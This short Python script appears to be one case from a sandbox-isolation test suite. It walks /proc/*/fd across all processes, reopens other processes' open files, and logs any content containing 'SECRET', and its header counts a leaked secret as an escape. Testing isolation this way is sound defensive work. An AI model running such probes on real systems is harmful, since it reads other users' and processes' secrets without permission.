# tries: to open again what other processes have open, through /proc
# escape: a secret is in the output
# control: outside
import glob
import os
import stat

from attack import note, targets

paths = glob.glob(f"/proc/{targets['victim']}/fd/*") + glob.glob("/proc/[0-9]*/fd/*")
note(f"{len(paths)} open files seen")
for path in paths:
    try:
        if stat.S_ISREG(os.stat(path).st_mode):
            with open(path, "rb") as file:
                text = file.read(200)
            if b"SECRET" in text:
                note(f"{path} -> {text!r}")
    except OSError as error:
        note(f"{path}: {error}")
